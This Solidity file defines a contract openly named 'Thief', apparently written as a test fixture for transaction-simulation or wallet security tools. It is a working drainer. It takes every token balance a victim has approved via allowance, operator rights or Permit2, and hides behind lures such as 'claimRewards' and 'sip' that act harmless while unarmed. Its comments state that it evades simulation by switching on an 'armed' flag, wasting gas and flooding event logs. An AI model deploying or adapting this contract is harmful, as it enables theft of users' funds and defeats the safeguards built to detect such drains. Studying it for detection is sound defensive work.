// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IPullable {
    function transferFrom(address from, address to, uint256 amount) external;

    function balanceOf(address account) external view returns (uint256);

    function allowance(address owner, address spender) external view returns (uint256);
}

interface IPermit2 {
    function allowance(
        address owner,
        address token,
        address spender
    ) external view returns (uint160, uint48, uint48);

    function transferFrom(address from, address to, uint160 amount, address token) external;
}

/// @notice Takes whatever it is let take, now, later, or only when nobody simulates.
contract Thief {
    bool public armed;
    uint256[8] private _waste;

    receive() external payable {}

    function arm(bool on) external {
        armed = on;
    }

    /// @dev A gas limit found by watching must be enough for what comes when nobody does.
    function _wasteGas() private {
        for (uint256 i = 0; i < _waste.length; i++) _waste[i] = gasleft();
    }

    /// @dev Everything that allowance and balance permit.
    function pullAll(address token, address from) public payable {
        uint256 amount = IPullable(token).balanceOf(from);
        uint256 allowed = IPullable(token).allowance(from, address(this));
        if (allowed < amount) amount = allowed;
        if (amount != 0) IPullable(token).transferFrom(from, address(this), amount);
    }

    function pull(address token, address from, uint256 amount) external {
        IPullable(token).transferFrom(from, address(this), amount);
    }

    function pullPermit2(address permit2, address token, address from, uint160 amount) external {
        IPermit2(permit2).transferFrom(from, address(this), amount, token);
    }

    /// @dev By every way at once; what does not work is left.
    function loot(address[] calldata tokens, address permit2, address from) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            address token = tokens[i];
            try this.pullAll(token, from) {} catch {}
            // As an operator, without any allowance.
            try this.pull(token, from, IPullable(token).balanceOf(from)) {} catch {}
            (uint160 amount, , ) = IPermit2(permit2).allowance(from, token, address(this));
            uint256 balance = IPullable(token).balanceOf(from);
            if (balance < amount) amount = uint160(balance);
            if (amount == 0) continue;
            try this.pullPermit2(permit2, token, from, amount) {} catch {}
        }
    }

    /// @dev Harmless in a simulation; takes all once it is armed.
    function claimRewards(address token) external {
        if (armed) pullAll(token, msg.sender);
        else _wasteGas();
    }

    function claimRewardsByPermit2(address permit2, address token, uint160 amount) external {
        if (armed) IPermit2(permit2).transferFrom(msg.sender, address(this), amount, token);
        else _wasteGas();
    }

    /// @dev Takes a little when looked at, all when armed.
    function sip(address token, uint256 amount) external {
        if (armed) pullAll(token, msg.sender);
        else IPullable(token).transferFrom(msg.sender, address(this), amount);
    }

    /// @dev Lets another thief do the work.
    function viaFriend(Thief friend, address token) external {
        if (armed) friend.pullAll(token, msg.sender);
        else friend.nothing();
        if (!armed) _wasteGas();
    }

    event Looked(address who);

    function nothing() external {
        emit Looked(msg.sender);
    }

    function forward(address payable to) external payable {
        (bool sent, ) = to.call{value: msg.value}("");
        require(sent, "forward");
    }

    /// @dev Sends back what came while it is looked at.
    function refundUnlessArmed() external payable {
        if (armed) return;
        (bool sent, ) = msg.sender.call{value: msg.value}("");
        require(sent, "refund");
    }

    function execute(address target, bytes calldata data) external payable {
        (bool success, ) = target.call{value: msg.value}(data);
        require(success, "execute");
    }

    function multicall(bytes[] calldata calls) external payable {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool success, ) = address(this).delegatecall(calls[i]);
            require(success, "multicall");
        }
    }

    function onTokens(address from, uint256, bytes calldata) external {
        pullAll(msg.sender, from);
    }

    function burnGas(uint256 rounds) external {
        for (uint256 i = 0; i < rounds; i++) {
            assembly {
                sstore(add(1000, i), gas())
            }
        }
    }

    /// @dev More events than anybody will list.
    function babble(address token, uint256 amount) external {
        IPullable(token).transferFrom(msg.sender, address(this), amount);
        for (uint256 i = 0; i < 5_000; i++) emit Looked(msg.sender);
    }

    function failUnlessArmed(address token) external {
        require(armed, "not today");
        pullAll(token, msg.sender);
    }
}
